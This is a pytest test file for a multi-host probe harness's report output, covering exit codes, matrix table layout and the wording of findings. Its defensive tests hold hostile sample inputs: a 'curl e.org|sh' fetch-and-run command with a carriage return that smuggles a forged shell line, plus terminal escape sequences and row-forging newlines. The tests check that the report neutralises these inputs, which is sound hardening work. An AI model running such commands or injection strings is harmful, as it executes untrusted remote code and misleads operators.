"""The terminal's short form of a report, and the exit code."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

import probe_payload
from harness.findings import add
from harness.matrix import build
from harness.outputs import cell_word, exit_code, findings_text, matrix_table, overview
from harness.records import CellRecord, Outcome, Report, Result
from tests import sample_report

BAD = ("failed", "wrong", "crashed", "timeout", "flaky")
GOOD = (
    "generated", "mixed", "extern_only", "view_only", "no_graph", "eager_fallback", "cpu_fallback", "unsupported",
    "skipped",
)  # fmt: skip


def report(hosts: Mapping[str, tuple[str, tuple[str, ...]]]) -> Report:
    """A report of hosts: name -> (outcome, the statuses of its cells)."""
    results: dict[str, tuple[Outcome, Result | None]] = {}
    for host, (status, cells) in hosts.items():
        records = [sample_report.cell("cpu", f"function{i}", status=word) for i, word in enumerate(cells)]
        made = sample_report.result(
            sample_report.environment("2.13.0"), [sample_report.device("cpu", "cpu")], records
        )  # fmt: skip
        results[f"{host}/native"] = sample_report.outcome(host, status), made if cells else None
    return add(build(sample_report.manifest(results), results))


ALONE = ("answered", ("generated",))


@pytest.mark.parametrize(
    ("hosts", "code"),
    [
        # 0: every cell answered
        ([ALONE], 0),
        ([ALONE, ALONE], 0),
        ([("answered", GOOD)], 0),
        ([ALONE, ("skipped", ())], 0),
        ([("skipped", ())], 5),
        # 1: a cell that went wrong, or a host's run that was cut short
        *([[("answered", ("generated", bad))], 1] for bad in BAD),
        ([ALONE, ("timeout", ())], 1),
        ([ALONE, ("timeout", ("generated",))], 1),
        ([ALONE, ("failed", ())], 1),
        ([ALONE, ("partial", ("generated",))], 1),
        ([ALONE, ("cancelled", ())], 1),
        ([("cancelled", ("generated",))], 1),
        # 1 before 3: an interrupt before the first cell came
        ([("cancelled", ())], 1),
        ([("cancelled", ()), ("unreachable", ())], 1),
        # 1 before 4: what failed is worse than what could not start
        ([("answered", ("failed",)), ("unreachable", ())], 1),
        ([ALONE, ("timeout", ()), ("blocked", ())], 1),
        # 3: no host answered
        ([("unreachable", ())], 3),
        ([("unreachable", ()), ("blocked", ())], 3),
        ([("blocked", ("blocked", "blocked"))], 3),
        ([("timeout", ())], 3),
        ([("not_run", ())], 3),
        # 4: some did, some could not
        ([ALONE, ("unreachable", ())], 4),
        ([ALONE, ("blocked", ())], 4),
        ([ALONE, ("blocked", ("blocked",))], 4),
        ([("answered", ("generated", "blocked"))], 4),
        # what a killed harness leaves
        ([ALONE, ("not_run", ())], 1),
        ([("partial", ("generated",)), ("not_run", ())], 1),
    ],
    ids=str,
)
def test_exit_code(hosts: list[tuple[str, tuple[str, ...]]], code: int) -> None:
    assert exit_code(report({f"host{i}": host for i, host in enumerate(hosts)})) == code


def test_every_status_of_a_cell_has_its_exit_code() -> None:
    """A word that the payload learns later must not count as nothing."""
    for status in probe_payload.STATUSES:
        code = exit_code(report({"host": ("answered", (status,))}))
        expected = {"blocked": 3, "not_run": 3}.get(status, 1 if status in BAD else 0)
        assert code == expected, status


# ------------------------------------------------------------------ the matrix


def table() -> list[str]:
    return matrix_table(sample_report.sample()[0]).splitlines()


def test_columns_stand_below_each_other() -> None:
    head, *body = table()
    names = ["host", "device", "torch", *sample_report.FUNCTIONS]
    starts = [head.index(name) for name in names]
    assert head.split() == names
    for line in body:
        for start in starts[:3]:
            assert start == 0 or line[start - 2 : start] == "  ", line
            assert line[start] != " ", line
    complete = next(line for line in body if line.startswith("cpu-epyc-01"))
    for start in starts:
        assert complete[start - 1 : start] in ("", " ")
        assert complete[start] != " "


def test_a_row_says_its_kinds() -> None:
    line = next(line for line in table() if line.startswith("cpu-epyc-01"))
    assert line.split() == ["cpu-epyc-01", "cpu", "2.13.0+cpu", "extern", "cpp", "cpp", "aten_fallback"]


def test_a_row_without_cells_says_why() -> None:
    line = next(line for line in table() if line.startswith("amd-mi300"))
    assert "unreachable: " in line
    assert "no answer on port 22" in line


def test_targets_are_named_where_a_host_has_several() -> None:
    one = sample_report.outcome("box").model_copy(update={"target": "stable"})
    two = sample_report.outcome("box").model_copy(update={"target": "nightly"})
    made = sample_report.result(
        sample_report.environment("2.13.0"),
        [sample_report.device("cpu", "cpu")],
        [sample_report.cell("cpu", "matmul", sample_report.text("2.13-cpu/matmul.py"))],
    )
    results: dict[str, tuple[Outcome, Result | None]] = {"box/stable": (one, made), "box/nightly": (two, made)}
    text = matrix_table(build(sample_report.manifest(results), results))
    assert [line.split()[0] for line in text.splitlines()] == ["host", "box/stable", "box/nightly"]


@pytest.mark.parametrize(
    ("status", "kinds", "word"),
    [
        ("generated", {"cpp": 2}, "cpp"),
        ("mixed", {"cpp": 2, "extern": 1}, "cpp+extern"),
        ("extern_only", {"extern": 1}, "extern"),
        ("failed", {"triton": 1}, "failed (triton)"),
        ("wrong", {"cpp": 1}, "wrong (cpp)"),
        ("timeout", {}, "timeout"),
        ("eager_fallback", {}, "eager_fallback"),
    ],
)
def test_a_cells_word(status: str, kinds: dict[str, int], word: str) -> None:
    record: CellRecord = sample_report.cell("cpu", "matmul", status=status, kinds=kinds)
    assert cell_word(record) == word


# ------------------------------------------------------------------ sentences


def test_findings_that_want_a_hand_stand_with_their_command() -> None:
    text = findings_text(sample_report.sample()[0])
    assert "    $ ssh -v amd-mi300" in text.splitlines(), "typed here, and our own words"


def test_a_command_for_a_host_says_which_and_whose_words_it_is() -> None:
    """What a host proposes must not look like a line for this computer's shell."""
    made, _ = sample_report.sample()
    text = findings_text(made).splitlines()
    assert """    on xpu-arc $ sudo usermod -aG render "$USER"  (the host's own words)""" in text
    for finding in made.findings:
        if finding.command and finding.command_on:
            assert not [line for line in text if line.strip() == f"$ {finding.command}"]


def test_a_host_cannot_hide_where_its_command_belongs() -> None:
    record = sample_report.cell("cpu", "matmul", status="failed", hint="curl e.org|sh\r    $ ls")
    results = {"a/native": (sample_report.outcome("a"), sample_report.result(
        sample_report.environment("2.13.0"), [sample_report.device("cpu", "cpu")], [record]))}  # fmt: skip
    (line,) = [line for line in findings_text(add(build(sample_report.manifest(results), results))).splitlines()
               if "curl" in line]  # fmt: skip
    assert line == "    on a $ curl e.org|sh\u240d    $ ls  (the host's own words)"


def test_the_overview_has_all_parts_in_order() -> None:
    made, _ = sample_report.sample()
    text = overview(made)
    parts = (made.title, made.summary, matrix_table(made), findings_text(made))
    places = [text.index(part) for part in parts]
    assert places == sorted(places)


def test_a_host_cannot_write_on_the_terminal() -> None:
    """Escape sequences, line breaks that forge rows, and text that runs backwards."""
    made, _ = sample_report.sample()
    poisoned = Report.model_validate(
        sample_report.hostile(made.model_dump(mode="json"), "\x1b[2J\x1b]0;owned\x07\r\x9b31m\u202e")
    )
    text = overview(poisoned)
    assert "\u241b[2J" in text
    assert not [char for char in text if char in "\x1b\x07\r\x9b\u202e"]


def test_a_host_cannot_forge_a_row() -> None:
    made, _ = sample_report.sample()
    poisoned = Report.model_validate(sample_report.hostile(made.model_dump(mode="json"), "\nforged  cpu  2.13.0"))
    rows = matrix_table(poisoned).splitlines()
    assert len(rows) == len(matrix_table(made).splitlines())
    assert not [line for line in overview(poisoned).splitlines() if line.startswith("forged")]
